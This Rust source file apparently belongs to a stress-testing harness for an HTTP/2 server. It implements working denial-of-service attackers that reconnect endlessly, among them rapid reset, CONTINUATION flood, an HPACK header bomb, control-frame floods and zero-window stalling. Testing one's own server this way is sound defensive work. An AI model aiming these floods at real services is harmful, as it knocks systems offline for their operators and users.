//! Attackers, written by hand: each says what no good client would, as fast as it can, until it is killed.
//!
//! In: the name of an attack, a port, a number of connections. A connection that is cut is opened again: an attacker
//! does not take no for an answer.

use std::time::Duration;

use tokio::net::TcpStream;

use crate::Failure;
use crate::wire::frame;
use crate::wire::{Raw, call_head, framed};

/// Attacks for ever.
pub(crate) async fn run(name: &str, port: &str, connections: &str) -> Result<(), Failure> {
    let port: u16 = port.parse()?;
    let attack = Attack::ALL.into_iter().find(|attack| attack.name == name).ok_or("no such attack")?;
    for _ in 0..connections.parse::<usize>()? {
        tokio::spawn(async move {
            loop {
                // However it ends, it begins again.
                let _ = one(attack, port).await;
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        });
    }
    std::future::pending().await
}

/// An attack, and what is known of it beforehand.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Attack {
    /// Its number in the catalogue.
    pub(crate) name: &'static str,
    pub(crate) what: &'static str,
    wave: fn(&mut Raw, u32) -> u32,
    /// Rests between two waves.
    pace: Duration,
    /// Why nothing above h2 can stop it.
    pub(crate) hidden: Option<&'static str>,
}

impl Attack {
    /// Those that a client makes and that this machine can make.
    pub(crate) const ALL: [Attack; 13] = [
        Attack { name: "A1", what: "rapid reset, in bulk", wave: bulk_reset, pace: NONE, hidden: None },
        Attack { name: "A2", what: "rapid reset, paced", wave: paced_reset, pace: PACE, hidden: None },
        Attack { name: "A3", what: "the server made to reset", wave: made_reset, pace: NONE, hidden: None },
        Attack { name: "A4", what: "CONTINUATION flood", wave: continuation, pace: NONE, hidden: None },
        Attack { name: "A5", what: "HTTP/2 bomb", wave: bomb, pace: PACE, hidden: None },
        Attack { name: "A8", what: "PING flood", wave: ping, pace: NONE, hidden: Some(H2_PING) },
        Attack { name: "A9", what: "SETTINGS flood", wave: settings, pace: NONE, hidden: Some(H2_SETTINGS) },
        Attack { name: "A11", what: "PRIORITY flood", wave: priority, pace: NONE, hidden: Some(H2_PRIORITY) },
        Attack { name: "A15", what: "empty frames", wave: empty_data, pace: NONE, hidden: None },
        Attack { name: "A16", what: "small DATA frames", wave: small_data, pace: NONE, hidden: None },
        Attack { name: "A17", what: "answers nobody takes", wave: zero_window, pace: PACE, hidden: None },
        Attack { name: "A20", what: "unknown frames", wave: unknown, pace: NONE, hidden: Some(H2_UNKNOWN) },
        Attack { name: "A22", what: "a prefix of 4 GiB", wave: huge_prefix, pace: NONE, hidden: None },
    ];
}

async fn one(attack: Attack, port: u16) -> std::io::Result<()> {
    // A window of nothing for A17; the others never look at an answer.
    let settings: &[(u16, u32)] = if attack.name == "A17" { &[(4, 0)] } else { &[] };
    let mut raw = Raw::client(port, settings).await?;
    let mut stream = 1;
    loop {
        for _ in 0..WAVES_A_WRITE {
            stream = (attack.wave)(&mut raw, stream);
            if attack.pace > NONE {
                break;
            }
        }
        write_and_forget(&mut raw).await?;
        if attack.pace > NONE {
            tokio::time::sleep(attack.pace).await;
        }
    }
}

/// Writes while throwing away what comes: an attacker that did not read would soon block itself.
async fn write_and_forget(raw: &mut Raw) -> std::io::Result<()> {
    let bytes = raw.out.split();
    let mut left = &bytes[..];
    let mut heard = [0; 16 * 1024];
    while !left.is_empty() {
        raw.socket.writable().await?;
        match raw.socket.try_write(left) {
            Ok(written) => left = &left[written..],
            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
            Err(error) => return Err(error),
        }
        drain(&raw.socket, &mut heard)?;
    }
    drain(&raw.socket, &mut heard)
}

fn drain(socket: &TcpStream, heard: &mut [u8]) -> std::io::Result<()> {
    match socket.try_read(heard) {
        Ok(0) => Err(std::io::ErrorKind::ConnectionReset.into()),
        Ok(_) => Ok(()),
        Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => Ok(()),
        Err(error) => Err(error),
    }
}

fn bulk_reset(raw: &mut Raw, stream: u32) -> u32 {
    raw.call(stream, "Hold").reset(stream, frame::CANCEL);
    stream + 2
}

/// Twenty calls, reset with the next wave.
fn paced_reset(raw: &mut Raw, stream: u32) -> u32 {
    if let Some(first) = stream.checked_sub(40) {
        for n in 0..20 {
            raw.reset(first + 2 * n, frame::CANCEL);
        }
    }
    for n in 0..20 {
        raw.call(stream + 2 * n, "Hold");
    }
    stream + 40
}

/// A window that overflows makes the server reset the stream (RFC 9113, section 6.9.1).
fn made_reset(raw: &mut Raw, stream: u32) -> u32 {
    raw.call(stream, "Hold").window(stream, 0x7fff_ffff);
    stream + 2
}

fn continuation(raw: &mut Raw, stream: u32) -> u32 {
    raw.frame(frame::HEADERS, 0, stream, &call_head("Hold", &[]));
    for _ in 0..50 {
        raw.frame(CONTINUATION, 0, stream, b"\x00\x01a\x01b");
    }
    stream + 2
}

/// A block that names one entry of the dynamic table as often as the limit of 128 fields allows.
fn bomb(raw: &mut Raw, stream: u32) -> u32 {
    for n in 0..20 {
        let mut block = call_head("Hold", &[]);
        block.extend_from_slice(b"\x40\x01x\x64");
        block.extend(std::iter::repeat_n(b'v', 100));
        block.extend(std::iter::repeat_n(0x80 | 62, 115));
        raw.frame(frame::HEADERS, frame::END_HEADERS, stream + 2 * n, &block);
    }
    stream + 40
}

fn ping(raw: &mut Raw, stream: u32) -> u32 {
    raw.frame(frame::PING, 0, 0, b"12345678");
    stream
}

fn settings(raw: &mut Raw, stream: u32) -> u32 {
    raw.settings(&[]);
    stream
}

fn priority(raw: &mut Raw, stream: u32) -> u32 {
    raw.frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 1]);
    stream
}

fn empty_data(raw: &mut Raw, stream: u32) -> u32 {
    if stream == 1 {
        raw.call(1, "Hold");
    }
    raw.data(1, b"", false);
    stream + 2
}

/// As many as the window of a stream holds, on one stream after another.
fn small_data(raw: &mut Raw, stream: u32) -> u32 {
    raw.call(stream, "Hold");
    for _ in 0..200 {
        raw.data(stream, &framed(b""), false);
    }
    stream + 2
}

fn zero_window(raw: &mut Raw, stream: u32) -> u32 {
    for n in 0..20 {
        let wish = crate::load::Wish::endless(16 * 1024).message();
        raw.call(stream + 2 * n, "Flow").data(stream + 2 * n, &framed(&wish.0), true);
    }
    stream + 40
}

fn unknown(raw: &mut Raw, stream: u32) -> u32 {
    raw.frame(0x0b, 0, 0, b"12345678");
    stream
}

fn huge_prefix(raw: &mut Raw, stream: u32) -> u32 {
    raw.call(stream, "Echo").data(stream, &[0, 0xff, 0xff, 0xff, 0xff], true);
    stream + 2
}

const CONTINUATION: u8 = 9;
const PRIORITY: u8 = 2;
const NONE: Duration = Duration::ZERO;

/// Slow enough that every call is accepted before it is reset.
const PACE: Duration = Duration::from_millis(4);

/// So that an attacker is limited by its core, not by system calls.
const WAVES_A_WRITE: usize = 100;

const H2_PING: &str = "h2 answers PING by itself and shows none (h2 0.4.20, src/proto/ping_pong.rs:97)";
const H2_SETTINGS: &str = "h2 answers SETTINGS by itself (h2 0.4.20, src/proto/settings.rs:41)";
const H2_PRIORITY: &str = "h2 reads PRIORITY and drops it (h2 0.4.20, src/proto/connection.rs:615)";
const H2_UNKNOWN: &str = "h2 drops unknown frames unseen (h2 0.4.20, src/codec/framed_read.rs:404)";
